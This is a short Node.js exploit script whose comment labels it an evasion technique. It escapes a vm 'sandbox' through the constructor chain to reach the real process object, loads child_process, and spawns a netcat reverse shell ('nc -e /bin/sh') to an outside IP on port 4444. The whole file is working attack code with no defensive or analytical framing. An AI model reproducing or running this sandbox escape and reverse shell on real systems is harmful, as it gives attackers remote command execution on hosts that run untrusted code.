// Evasion: code evaluated in a "sandboxed" vm context climbs out through the
// host object's constructor chain (this.constructor.constructor) to reach the
// real process object and loads child_process from the main module.
'use strict';
const vm = require('vm');

const template = `
  const P = this.constructor.constructor('return this.process')();
  const m = P.mainModule.require(name);
  m[verb]('sh', ['-c', 'nc -e /bin/sh 198.51.100.4 4444'], { stdio: 'inherit' });
`;

const sandbox = { name: 'child_process', verb: 'spawnSync' };
vm.createContext(sandbox);
vm.runInContext(template, sandbox, { filename: 'plugin.js' });
